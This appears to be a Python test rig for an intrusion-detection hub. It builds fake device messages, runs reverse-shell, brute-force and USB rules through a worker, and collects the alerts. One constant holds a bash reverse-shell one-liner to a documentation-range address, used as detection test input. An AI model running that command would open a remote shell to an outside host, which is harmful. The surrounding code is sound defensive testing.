"""A lake, a registry and a worker between them."""

from __future__ import annotations

import uuid
from collections.abc import Iterable
from pathlib import Path

from vedette.hub.detect.alerts import Alert, Alerts
from vedette.hub.detect.engine import Worker
from vedette.hub.detect.rules import BUILT_IN, RuleSet, load
from vedette.hub.detect.schema import Database
from vedette.hub.intake import Inbound, Intake
from vedette.hub.registry import Registry
from vedette.wire.events import Event, Payload, Process
from vedette.wire.iothub import Identity
from vedette.wire.message import INTERFACE_ID, MTI, Window, pack

NOW = 1_767_614_400.0
"""2026-01-05T12:00:00Z."""

RULES = ("reverse_shell", "brute_force_succeeded", "usb_connection")

SHELL = "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"


def process(commandline: str, **fields: object) -> Process:
    known = {"event_type": "EXEC", "process_id": 7, "parent_process_id": 1, "user_id": 0} | fields
    return Process(commandline=commandline, **known)


def message(
    *payloads: Payload,
    at: float = NOW,
    device: str = "d1",
    hits: int = 1,
    mid: str = "",
    received: float = 0.0,
) -> Inbound:
    """A message as the gateway hands it on, its events one second apart."""
    events = [Event(payload, at + index, hits) for index, payload in enumerate(payloads)]
    [packed] = pack([(events, Window(at - 60, at + 60))])
    properties = {"$.ifid": INTERFACE_ID, "mti": MTI, "$.mid": mid or uuid.uuid4().hex}
    return Inbound(Identity(device, "agent"), properties, packed.body, received or at)


class Rig:
    """A hub's state without its network."""

    def __init__(self, root: Path, rules: RuleSet | None = None, *, url: str = "") -> None:
        self.lake = root / "lake"
        self.url = url or f"sqlite:///{root / 'registry.db'}"
        self.rules = rules or load(*(BUILT_IN / f"{name}.yml" for name in RULES), built_in=False)
        self.database = Database(self.url)
        self.alerts = Alerts(self.database)
        Registry(self.url).close()

    def worker(self, **options: object) -> Worker:
        return Worker(self.lake, self.database, self.rules, up_since=0.0, **options)

    async def send(self, *messages: Inbound) -> None:
        """Store messages, each in a commit of its own."""
        intake = Intake(self.lake)
        await intake.start()
        for one in messages:
            await intake.submit(one)
        await intake.close()

    def judge(self, now: float = NOW, worker: Worker | None = None) -> None:
        """Have a worker take all there is."""
        own = worker or self.worker()
        while own.step(now):
            pass
        if worker is None:
            own.release()

    def types(self) -> list[str]:
        return sorted(alert.type for alert in self.found())

    def found(self) -> Iterable[Alert]:
        return self.alerts.list()
